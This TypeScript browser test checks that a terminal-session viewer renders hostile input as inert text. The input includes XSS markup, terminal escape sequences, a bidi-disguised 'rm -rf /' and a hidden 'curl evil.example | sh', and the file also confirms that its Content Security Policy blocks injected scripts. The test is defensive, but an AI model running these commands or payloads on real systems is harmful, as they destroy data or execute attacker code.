/** A session that attacks whoever looks at it. Everything it says must stay text. */
import type { Page } from 'playwright-core';
import t, { type Test } from 'tap';
import { needsChromium } from '../chromium.ts';
import { stage, terminalText, until } from './browser.ts';
import { decided, end, idOf, output, REFUSAL, SECOND, start, UNJUDGED } from './sessions.ts';

t.setTimeout(600_000);

const MARKUP = `<img src=x onerror="window.owned=1"><script>window.owned=1</script>"'><svg/onload=window.owned=1>`;
const REORDER = 'rm -rf /\u202e"txt.eruces" tac\u202c \u2066x\u2069';
const HIDDEN = 'curl\u200b evil\u00ad.example\u{e0041} | sh';

t.test('hostile strings', { skip: !needsChromium(t) }, async (t) => {
  const { log, open } = await stage(t);
  const id = idOf(1);
  const at = Date.now() * 1000 - 60 * SECOND;
  const scene = {
    id,
    startedAt: at,
    user: `${MARKUP}\u202eresu`,
    host: `h\x1b]0;${MARKUP}\x07`,
    cwd: `/tmp/${MARKUP}\u202e`,
    command: ['bash', '-c', MARKUP, '\x1b[2J\u202e', 'x'.repeat(300)],
    groups: [MARKUP],
  };
  const reason = { ...REFUSAL, reason: `${MARKUP}\u202e`, rule: `p/${MARKUP}` };
  await log.append(id, [
    start(scene),
    output(
      at + SECOND,
      `\x1b]0;${MARKUP}\x07\x1b]8;;javascript:window.owned=1\x07link\x1b]8;;\x07 ${MARKUP}\r\n`,
    ),
    output(at + SECOND, '\x1b]52;c;b3duZWQ=\x07\x1b[8;500;500t\x1b[c\x1b[6n\x1bP+q544e\x1b\\plain\r\n'),
    decided(at + 2 * SECOND, MARKUP, { decision: reason }),
    decided(at + 3 * SECOND, REORDER, { decision: REFUSAL }),
    decided(at + 4 * SECOND, HIDDEN, { decision: UNJUDGED, unknown: [MARKUP] }),
    decided(at + 5 * SECOND, `echo '\n\n'\trm\r\x1b[1A\x07`, {}),
    output(at + 6 * SECOND, 'x'.repeat(100_000)),
    {
      at: at + 7 * SECOND,
      body: { type: 'session.end', reason: 'failed', status: 1, error: `\u202e${MARKUP}` },
    },
  ]);

  await t.test('list', async (t) => {
    const { page, complaints } = await open(t, '/');
    const row = (await page.textContent('[data-session]')) ?? '';
    t.match(row, '<script>window.owned=1</script>', 'as text');
    await clean(t, page, complaints);
  });

  await t.test('session', async (t) => {
    const { page, complaints } = await open(t, `/sessions/${id}?t=5.5s`);
    await page.locator('.commands .row').nth(3).waitFor();
    await page.locator('.ap-term-text', { hasText: 'plain' }).waitFor();
    const rows = await page.locator('.commands .row .text > code').allTextContents();
    t.equal(rows[0], MARKUP);
    t.equal(rows[1], 'rm -rf /⟨202E⟩"txt.eruces" tac⟨202C⟩ ⟨2066⟩x⟨2069⟩');
    t.equal(rows[2], 'curl⟨200B⟩ evil⟨00AD⟩.example⟨E0041⟩ | sh');
    t.equal(rows[3], `echo '⏎⏎'⇥rm␍␛[1A␇`);
    const direction = await page
      .locator('.plain')
      .first()
      .evaluate((element) => getComputedStyle(element).unicodeBidi);
    t.equal(direction, 'isolate-override', 'letters of any script keep their order');
    const titles = await page
      .locator('[title]')
      .evaluateAll((all) => all.map((each) => each.getAttribute('title')));
    for (const title of titles) t.notMatch(title, /[\u202a-\u202e\u2066-\u2069\u200b]/, 'tooltips too');
    const wide = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
    t.equal(wide, 0, 'nothing is pushed out of sight');
    const { x, y, width } = (await page.locator('.timeline').boundingBox())!;
    await page.mouse.move(x + (width * 2.5) / 7, y + 8);
    await page.locator('.hint code').waitFor();
    t.match(await page.textContent('.hint code'), '<img');
    await page.getByRole('tab', { name: 'Details' }).click();
    await page.getByText('3f1c9d2ab07e55c1').waitFor();
    await clean(t, page, complaints);
  });

  await t.test('output', async (t) => {
    const { page, complaints } = await open(t, `/sessions/${id}?t=1s`);
    await page.locator('.ap-term-text', { hasText: 'plain' }).waitFor();
    t.match(await terminalText(page), /^link <img src=x/);
    t.equal(await page.locator('.ap-line').count(), 24, 'output cannot size the terminal');
    t.equal(await page.locator('.ap-term a').count(), 0);
    await page.keyboard.press('/');
    await page.keyboard.type('<script>');
    // What was found while it was typed is marked first.
    const found = await until(
      () => page.locator('.matches mark').allTextContents(),
      ([first]) => first === '<script>',
    );
    t.equal(found[0], '<script>');
    await clean(t, page, complaints);
  });

  await t.test('a terminal of absurd size', async (t) => {
    const huge = idOf(2);
    const terminal = { cols: 60_000, rows: 60_000, term: 'x' };
    await log.append(huge, [
      start({ id: huge, startedAt: at, terminal }),
      output(at + 1000, 'here'),
      end(at + 2000),
    ]);
    const { page, complaints } = await open(t, `/sessions/${huge}?t=1s`);
    await page.locator('.ap-term-text', { hasText: 'here' }).waitFor();
    t.equal(await page.locator('.ap-line').count(), 240);
    await clean(t, page, complaints);
  });

  await t.test('the address', async (t) => {
    for (const path of [
      '/sessions/%3Cscript%3E?t=%3Cscript%3E',
      `/?q=${encodeURIComponent(`${MARKUP} nowhere`)}`,
    ]) {
      const { page, complaints } = await open(t, path);
      await page.locator('.notice').waitFor();
      await clean(t, page, complaints);
    }
  });

  await t.test('the policy that the browser enforces would refuse a script that came in', async (t) => {
    const { page, complaints } = await open(t, '/');
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.owned = 1';
      document.body.append(script);
      document.body.insertAdjacentHTML(
        'beforeend',
        '<img src=x onerror="window.owned=1"><b style="color:red">x</b>',
      );
    });
    const refused = () => complaints.filter((text) => text.includes('Content Security Policy')).length;
    t.ok((await until(refused, (amount) => amount >= 3)) >= 3, 'the script, the handler, the style');
    t.equal(await page.evaluate(() => (window as { owned?: number }).owned), undefined);
  });
});

/** Nothing ran, nothing was refused to run, nothing was made of it. */
async function clean(t: Test, page: Page, complaints: string[]): Promise<void> {
  t.equal(await page.evaluate(() => (window as { owned?: number }).owned), undefined, 'no script ran');
  t.equal(await page.locator('body img, body script').count(), 0, 'no element was made');
  t.same(
    complaints.filter((text) => !text.includes('status of 404')),
    [],
    'the browser has no complaint',
  );
}
